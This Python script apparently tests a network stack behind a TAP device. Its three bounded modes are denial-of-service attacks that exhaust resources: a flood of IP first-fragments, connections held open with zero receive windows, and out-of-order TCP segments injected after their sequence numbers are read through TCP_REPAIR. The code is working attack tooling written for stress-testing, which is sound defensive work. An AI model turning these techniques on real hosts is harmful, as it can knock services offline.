"""Issue 10, attacks 2 and 3, from the kernel's side of a TAP device (standard library only).

Each mode is bounded in count and in time, prints what it sent, and exits by itself.

  fragments DEVICE STACK_MAC STACK_IP COUNT RATE SECONDS
      Writes COUNT first fragments (more-fragments set, offset 0) of 8 bytes each, every one
      the start of a different datagram, as raw frames, at most RATE a second (0: as fast as it
      can), and never more than WINDOW frames ahead of what the TAP's reader has taken: a TAP
      drops what does not fit its queue, and a reader slowed by a loaded machine would otherwise
      lose most of the flood there. The reassembly key (source,
      destination, protocol, id) has only 65,536 ids per source, so the source address moves on
      after each 65,536. Prints "sent N fragments".

  zero-window STACK_IP PORT CONNECTIONS SECONDS
      Opens CONNECTIONS connections whose receive buffers are as small as Linux allows and never
      reads them, so their windows close as soon as the server writes. Prints "connected N", then
      holds them for SECONDS.

  out-of-order DEVICE STACK_MAC STACK_IP PORT CONNECTIONS SEGMENTS SECONDS
      Opens CONNECTIONS real connections, then on each writes SEGMENTS full segments as raw
      frames starting one byte past what the connection has sent, so that none can be
      delivered: a one-byte hole in front of them for good. The sequence numbers come from the
      kernel's socket through TCP_REPAIR (root only), as CRIU reads them. Timestamps are turned
      off in this namespace first, so that segments without the option are acceptable. Prints
      "sent S segments on N connections", then holds the connections for SECONDS.
"""
import socket
import sys
import time

from raw_frames import DONT_FRAGMENT, MORE_FRAGMENTS, RawLink, ipv4_packet, tcp_segment

TCP_ACK = 0x10
SEGMENT_PAYLOAD = 1400
BURST = 1000  # fragments between rate and deadline checks
WINDOW = 256  # frames queued in the TAP at most: well inside its queue (tx_queue_len, 500 for a TAP)
WINDOW_CHECK = 64  # fragments between looks at the TAP's queue
QUEUE_POLL_SECONDS = 0.0005
# linux/tcp.h
TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ = 19, 20, 21
TCP_RECV_QUEUE, TCP_SEND_QUEUE = 1, 2
TCP_REPAIR_OFF_NO_WP = -1  # leave repair mode without sending a window probe


class TapQueue:
    """How many frames written into DEVICE are still queued: written, less those its reader took
    (tx_packets: for a TAP, frames towards its user) and those it dropped (tx_dropped)."""

    def __init__(self, device):
        self.counters = ["/sys/class/net/%s/statistics/%s" % (device, name) for name in ("tx_packets", "tx_dropped")]
        self.initially_passed = self.passed()

    def passed(self):
        total = 0
        for counter in self.counters:
            with open(counter) as f:
                total += int(f.read())
        return total

    def wait_until_at_most(self, written, frames, deadline):
        """Waits until at most FRAMES of the WRITTEN are queued, or DEADLINE (monotonic) passes."""
        while written - (self.passed() - self.initially_passed) > frames and time.monotonic() < deadline:
            time.sleep(QUEUE_POLL_SECONDS)


def fragments(device, stack_mac, stack_ip, count, rate, seconds):
    link = RawLink(device, stack_mac)
    queue = TapQueue(device)
    destination = socket.inet_aton(stack_ip)
    subnet = stack_ip.rsplit(".", 1)[0]
    payload = bytes(8)
    start = time.monotonic()
    deadline = start + float(seconds)
    burst_seconds = BURST / float(rate) if float(rate) > 0 else 0.0
    sent = 0
    for i in range(int(count)):
        if i % BURST == 0:
            now = time.monotonic()
            if now > deadline:
                break
            time.sleep(max(0.0, start + (i // BURST) * burst_seconds - now))
        if i % WINDOW_CHECK == 0:
            queue.wait_until_at_most(sent, WINDOW - WINDOW_CHECK, deadline)
        source = socket.inet_aton("%s.%d" % (subnet, 100 + i // 65536))
        link.send(ipv4_packet(source, destination, socket.IPPROTO_UDP, i % 65536, MORE_FRAGMENTS, payload))
        sent += 1
    print("sent %d fragments in %.1f s" % (sent, time.monotonic() - start), flush=True)


def zero_window(stack_ip, port, connections, seconds):
    held = []
    for _ in range(int(connections)):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)  # Linux rounds it up to its minimum
        s.connect((stack_ip, int(port)))
        held.append(s)
    print("connected %d" % len(held), flush=True)
    time.sleep(float(seconds))


def sequence_numbers(connection):
    """(next sequence number to send, next expected), read through TCP_REPAIR."""
    connection.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
    connection.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, TCP_SEND_QUEUE)
    send = connection.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ) & 0xFFFFFFFF
    connection.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, TCP_RECV_QUEUE)
    receive = connection.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ) & 0xFFFFFFFF
    connection.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, TCP_REPAIR_OFF_NO_WP)
    return send, receive


def out_of_order(device, stack_mac, stack_ip, port, connections, segments, seconds):
    with open("/proc/sys/net/ipv4/tcp_timestamps", "w") as timestamps:
        timestamps.write("0")
    link = RawLink(device, stack_mac)
    deadline = time.monotonic() + float(seconds)
    payload = bytes(SEGMENT_PAYLOAD)
    held = []
    sent = 0
    for _ in range(int(connections)):
        s = socket.create_connection((stack_ip, int(port)))
        held.append(s)
        source_ip, source_port = s.getsockname()
        source, destination = socket.inet_aton(source_ip), socket.inet_aton(stack_ip)
        send, receive = sequence_numbers(s)
        for k in range(int(segments)):
            seq = (send + 1 + k * SEGMENT_PAYLOAD) & 0xFFFFFFFF
            segment = tcp_segment(source, destination, source_port, int(port), seq, receive, TCP_ACK, 0xFFFF, b"", payload)
            link.send(ipv4_packet(source, destination, socket.IPPROTO_TCP, k, DONT_FRAGMENT, segment))
            sent += 1
        if time.monotonic() > deadline:
            break
    print("sent %d segments on %d connections" % (sent, len(held)), flush=True)
    time.sleep(max(0.0, deadline - time.monotonic()))


if __name__ == "__main__":
    modes = {"fragments": fragments, "zero-window": zero_window, "out-of-order": out_of_order}
    modes[sys.argv[1]](*sys.argv[2:])
